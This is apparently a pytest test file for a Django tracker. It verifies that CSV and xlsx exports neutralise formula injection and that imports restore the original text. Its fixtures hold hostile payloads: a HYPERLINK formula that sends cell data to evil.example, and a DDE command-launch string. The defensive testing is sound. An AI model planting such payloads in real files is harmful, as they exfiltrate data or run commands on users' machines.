"""Formula injection (issue 13, point 3): a text that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab
or a carriage return first) goes out inert in every CSV and xlsx the tracker writes, with OWASP's leading apostrophe;
numbers and dates stay typed; the import takes the apostrophe off again, so an exported list comes back unchanged."""
import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from clusters.models import Cluster, Commune, FormerDistrict
from projects.imports.engine import run_import
from projects.models import Flag, Investor, Project, Rule
from tracker.cells import TRIGGERS, inert, restore_text
from tracker.exports import Column, export_response
from tracker.generic import ExportView

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
# One payload per text field a commune officer or an import can fill, each starting with another trigger.
PLANTED = {
    "commune": HYPERLINK,
    "district": "@SUM(1+1)*" + DDE[1:],
    "cluster_code": "+CCN-1",
    "cluster_name": DDE,
    "decision": "-1+2",
    "developer": "=1+1",
    "project_code": "=1+1",
    "project_name": HYPERLINK,
    "irc": "-2+3",
    "policy": "@SUM(A1:A9)",
    "investor": '=HYPERLINK("http://evil.example/","Công ty")',
    "address": "\r=1+2",
    "contact": "\t@SUM(1)",
    "phone": "+84 912 345 678",
    "country": "-Hàn Quốc",
    # industry/ (issue 16): an obstacle, a khuyến công scheme, a cluster's infrastructure item
    "obstacle": "=HYPERLINK(\"http://evil.example/\",\"Vướng\")",
    "agency": "@Điện lực",
    "scheme": "+Đào tạo nghề",
    "business": "-Hộ kinh doanh",
    "infrastructure": "=2*630 kVA",
}
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")


# --- the rule ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_text_starting_with_each_trigger_gets_the_apostrophe(trigger):
    assert inert(trigger + "1+1") == "'" + trigger + "1+1"
    assert inert(trigger) == "'" + trigger  # the character alone


@pytest.mark.parametrize("text", ["", "Nhà máy", " =1+1", "1-2", "a=b", "'s-Hertogenbosch", "'", "x@y.vn", "(1)", "–"])
def test_a_text_starting_otherwise_is_left_as_it_is(text):
    assert inert(text) == text and restore_text(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-1234.5"), 0, True, False, None, date(2024, 6, 14),
                                   datetime(2024, 6, 14, 9, 30)])
def test_numbers_dates_and_blanks_stay_what_they_are(value):
    assert inert(value) is value


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "-", "+84", "@", "\t=1", "\r=1", "'=x", "''=x", "'''+y", "'-", "'",
                                  "''", "'abc", "abc", "", "=", "'s"])
def test_the_import_gives_back_exactly_what_was_exported(text):
    assert restore_text(inert(text)) == text
    assert not inert(text).startswith(TRIGGERS)


def test_an_apostrophe_typed_before_a_formula_character_survives_the_round_trip():
    # Without the second apostrophe the import could not tell it from the one the export added.
    assert inert("'=x") == "''=x" and restore_text("''=x") == "'=x"


def _csv_fields(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_the_list_export_keeps_numbers_and_dates_typed_and_text_inert(rf):
    row = {"text": "=1+1", "minus": Decimal("-1.5"), "int": -5, "day": date(2024, 6, 14), "dash": "-"}
    columns = [Column(key, key, lambda r, key=key: r[key]) for key in row]
    xlsx = export_response([row], columns, "xlsx", "test")
    cells = {cell.column: cell for cell in _xlsx_cells(b"".join(xlsx.streaming_content)) if cell.row == 3}
    assert (cells[1].value, cells[1].data_type) == ("'=1+1", "s")
    assert (cells[2].value, cells[2].data_type) == (-1.5, "n")
    assert (cells[3].value, cells[3].data_type) == (-5, "n")
    assert cells[4].is_date and cells[4].value == datetime(2024, 6, 14)
    assert cells[5].value == "'-"
    fields = _csv_fields(b"".join(export_response([row], columns, "csv", "test").streaming_content))
    assert fields[2] == ["'=1+1", "-1,5", "-5", "14/06/2024", "'-"]


# --- every file the tracker writes ---------------------------------------------------------------------------------

# Every download of a spreadsheet, by URL name, and what it is asked for; the other downloads say why they are not.
SPREADSHEETS = {
    "projects:export": ("csv", "xlsx"),
    "investors:export": ("csv", "xlsx"),
    "clusters:export": ("csv", "xlsx"),
    "watchlist:export": ("csv", "xlsx"),
    "watchlist:coming_due_export": ("csv", "xlsx"),
    "reports:form04_xlsx": ("xlsx",),
    "reports:form03_xlsx": ("xlsx",),
    "reports:watchlist_xlsx": ("xlsx",),
    "imports:template": ("xlsx",),
    "public:xlsx": ("xlsx",),
    "industry:production_export": ("csv", "xlsx"),
    "industry:obstacle_export": ("csv", "xlsx"),
    "industry:scheme_export": ("csv", "xlsx"),
    "industry:infrastructure_export": ("csv", "xlsx"),
}
NOT_SPREADSHEETS = {
    "projects:document_download": "serves an uploaded PDF or image as it was uploaded",
    "reports:watchlist_pdf": "a PDF: nothing in it is evaluated",
    "public:pdf": "a PDF: nothing in it is evaluated",
    "reports:warning_letters_pdf": "a PDF: nothing in it is evaluated",
    "api:document-download": "serves an uploaded PDF or image as it was uploaded (the API's twin of the page's)",
    "api:capital-report-list": "JSON (the API's capital reports): no spreadsheet opens it",
    "api:capital-report-detail": "JSON (the API's capital reports): no spreadsheet opens it",
}
DOWNLOAD_WORDS = ("export", "xlsx", "csv", "pdf", "template", "download", "report")


def _routes(resolver=None, namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace == "admin":
                continue
            yield from _routes(pattern, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield namespace + pattern.name, pattern.callback


def _downloads() -> set[str]:
    found = set()
    for name, callback in _routes():
        view_class = getattr(callback, "view_class", None)
        if (view_class and issubclass(view_class, ExportView)) or any(w in name.split(":")[-1] for w in DOWNLOAD_WORDS):
            found.add(name)
    return found


def test_every_download_is_known_to_this_test():
    assert _downloads() == set(SPREADSHEETS) | set(NOT_SPREADSHEETS), "a new download: add it to SPREADSHEETS"
    for name, callback in _routes():
        if getattr(callback, "view_class", None) and issubclass(callback.view_class, ExportView):
            assert set(SPREADSHEETS[name]) == {"csv", "xlsx"}


@pytest.fixture
def planted(settings, make_project, make_user, watchlist_rules):
    """Every text field holds a formula: the commune, its district, a cluster, an investor, a project and its flag.
    The province and the department (settings) too: they open the official forms' lines."""
    settings.PROVINCE_NAME = "=Phú Thọ"
    settings.DEPARTMENT_NAME = "-Sở Công Thương"
    district = FormerDistrict.objects.create(name=PLANTED["district"])
    commune = Commune.objects.create(name=PLANTED["commune"], former_district=district)
    cluster = Cluster.objects.create(
        code=PLANTED["cluster_code"], name=PLANTED["cluster_name"], commune=commune, former_district=district,
        stage="operating", establishment_date=date(2015, 1, 1), total_area_ha=Decimal(50),
        industrial_land_ha=Decimal(40), establishment_decision_number=PLANTED["decision"],
        developer_name=PLANTED["developer"],
    )
    investor = Investor.objects.create(
        name=PLANTED["investor"], tax_code="0108888888", address=PLANTED["address"], contact_person=PLANTED["contact"],
        phone=PLANTED["phone"], country=PLANTED["country"], is_foreign=True,
    )
    project = make_project(code=PLANTED["project_code"], name=PLANTED["project_name"], cluster=cluster,
                           investor=investor, irc_number=PLANTED["irc"], policy_approval_number=PLANTED["policy"],
                           # its construction start comes due in 10 days: a row of the coming-due list
                           construction_start_deadline=timezone.localdate() + timedelta(days=9))
    from projects.watchlist.scans import run_scan

    run_scan()  # stores the coming dates the coming-due export reads
    Flag.objects.filter(project=project, rule__code="REPORT_MISSING").delete()  # the planted one below instead
    now = timezone.now()
    Flag.objects.create(project=project, rule=Rule.objects.get(code="REPORT_MISSING"), severity="warning",
                        since=date(2025, 8, 1), evidence={"missing_periods": ["6 tháng đầu năm 2025"]},
                        first_seen=now, last_confirmed=now)
    from industry.models import InfrastructureItem, Obstacle, Scheme

    Obstacle.objects.create(title=PLANTED["obstacle"], kind="power_grid", cluster=cluster, project=project,
                            agency=PLANTED["agency"], raised_on=date(2024, 3, 1))
    Scheme.objects.create(year=2024, name=PLANTED["scheme"], kind="training", business_name=PLANTED["business"],
                          commune=commune, province_budget_vnd=350_000_000, approved_on=date(2024, 3, 1))
    InfrastructureItem.objects.create(cluster=cluster, kind="power", description=PLANTED["infrastructure"],
                                      investment_planned_vnd=10**9)
    return {"commune": commune, "project": project}


# What must come out prefixed in each file (beside every other text cell being inert).
EXPECTED = {
    "projects:export": ["project_code", "project_name", "cluster_code", "cluster_name", "commune", "district",
                        "investor", "irc", "policy", "country"],
    "investors:export": ["investor", "address", "contact", "phone", "country"],
    "clusters:export": ["cluster_code", "cluster_name", "commune", "district", "decision", "developer"],
    "watchlist:export": ["project_code", "project_name", "cluster_name", "commune"],
    "watchlist:coming_due_export": ["project_code", "project_name", "investor", "cluster_name", "commune"],
    "reports:form04_xlsx": [],
    "reports:form03_xlsx": [],
    "reports:watchlist_xlsx": ["investor"],
    "imports:template": [],
    "public:xlsx": ["cluster_code", "cluster_name", "commune"],
    "industry:production_export": [],  # figures and months only: checked for inert text all the same
    "industry:obstacle_export": ["obstacle", "agency", "cluster_name"],
    "industry:scheme_export": ["scheme", "business", "commune"],
    "industry:infrastructure_export": ["infrastructure", "cluster_name"],
}


def public_xlsx_url() -> str:
    """The public list of the clusters' unleased land, approved from the data as it stands (projects/publication)."""
    from django.contrib.auth import get_user_model

    from projects.models import Publication
    from projects.publication.selectors import preview_rows

    kind = Publication.Kind.UNLEASED
    approver, _created = get_user_model().objects.get_or_create(username="lanhdao-congkhai")
    version = Publication.objects.filter(kind=kind).count() + 1
    Publication.objects.create(kind=kind, version=version, rows=preview_rows(kind, timezone.localdate()),
                               approved_by=approver, approved_on=timezone.now(), published_on=timezone.localdate())
    return reverse("public:xlsx", args=[kind])


def download_url(name, commune) -> str:
    if name == "public:xlsx":
        return public_xlsx_url()
    if name == "industry:production_export":
        return reverse(name, args=[2024])
    return reverse(name, args=[commune.pk] if name == "reports:form03_xlsx" else [])


def _url(name, planted):
    return download_url(name, planted["commune"])


def _assert_inert_text(text: str, where):
    assert not text.startswith(TRIGGERS), where


@pytest.mark.parametrize("name", sorted(SPREADSHEETS))
def test_every_export_writes_a_planted_formula_inert(staff_client, planted, name):
    for fmt in SPREADSHEETS[name]:
        response = staff_client.get(_url(name, planted), {"format": fmt} if name.endswith("export") else {})
        assert response.status_code == 200, (name, fmt)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if fmt == "csv":
            texts = [field for row in _csv_fields(content) for field in row]
            for text in texts:
                if not NUMBER.match(text):  # -1,5 is a number, not text
                    _assert_inert_text(text, (name, fmt, text))
        else:
            cells = _xlsx_cells(content)
            assert cells, name
            for cell in cells:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    _assert_inert_text(cell.value, (name, cell.coordinate, cell.value))
                    assert not cell.value.startswith("=")
            # The XML of an xlsx reads a carriage return back as a line feed.
            texts = [cell.value.replace("\n", "\r") for cell in cells if cell.data_type == "s"]
        for field in EXPECTED[name]:
            assert "'" + PLANTED[field] in texts, (name, fmt, field)


def test_the_official_forms_and_the_watchlist_report_write_their_own_lines_inert(staff_client, planted):
    """The province and the department open lines of the letterhead; a project's code opens the watchlist line."""
    form04 = [c.value for c in _xlsx_cells(staff_client.get(reverse("reports:form04_xlsx")).getvalue())]
    assert any(str(v).startswith("'=Phú Thọ, ngày") for v in form04)
    form03 = [c.value for c in _xlsx_cells(staff_client.get(_url("reports:form03_xlsx", planted)).getvalue())]
    assert any(str(v).startswith("'" + HYPERLINK + ", ngày") for v in form03)
    assert any(str(v).startswith("– ") for v in form03)  # the recipients' bullet: no apostrophe before it
    report = [c.value for c in _xlsx_cells(staff_client.get(reverse("reports:watchlist_xlsx")).getvalue())]
    assert f"'{PLANTED['project_code']} – {PLANTED['project_name']}" in report


# --- export, then import -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("kind", ["projects", "clusters"])
def test_an_exported_formula_imports_back_as_the_original_text(staff_client, staff_user, planted, fmt, kind):
    content = b"".join(staff_client.get(reverse(f"{kind}:export"), {"format": fmt}).streaming_content)
    outcome = run_import(io.BytesIO(content), f"{kind}.{fmt}", user=staff_user, csv_kind=kind, commit=True)
    assert outcome.valid, [str(error) for error in outcome.errors] + outcome.file_errors
    # Every row unchanged: with the apostrophe left on, the planted rows would come back as updates.
    assert outcome.counts()["update"] == outcome.counts()["create"] == 0 and outcome.counts()["unchanged"] >= 1
    # Deleted, then imported from the export: created with the original text, not with the apostrophe.
    if kind == "projects":
        from industry.models import Obstacle

        Flag.objects.all().delete()
        Obstacle.objects.all().delete()  # an obstacle keeps its project (PROTECT)
        Project.objects.all().delete()
        outcome = run_import(io.BytesIO(content), f"{kind}.{fmt}", user=staff_user, csv_kind=kind, commit=True)
        assert outcome.counts()["create"] == 1, [str(error) for error in outcome.errors]
        project = Project.objects.get()
        assert (project.code, project.name, project.irc_number, project.policy_approval_number) == (
            PLANTED["project_code"], PLANTED["project_name"], PLANTED["irc"], PLANTED["policy"])
    else:
        cluster = Cluster.objects.get(code=PLANTED["cluster_code"])
        assert (cluster.name, cluster.establishment_decision_number, cluster.developer_name) == (
            PLANTED["cluster_name"], PLANTED["decision"], PLANTED["developer"])


def test_an_apostrophe_that_is_not_the_exports_stays(staff_user, cluster):
    content = ("\ufeffcluster_code,cluster_name,commune,former_district\n"
               f"{cluster.code},'s-Hertogenbosch,{cluster.commune.name},{cluster.former_district.name}\n").encode()
    outcome = run_import(io.BytesIO(content), "cum.csv", user=staff_user, csv_kind="clusters", commit=True)
    assert outcome.valid, [str(error) for error in outcome.errors]
    assert Cluster.objects.get(pk=cluster.pk).name == "'s-Hertogenbosch"
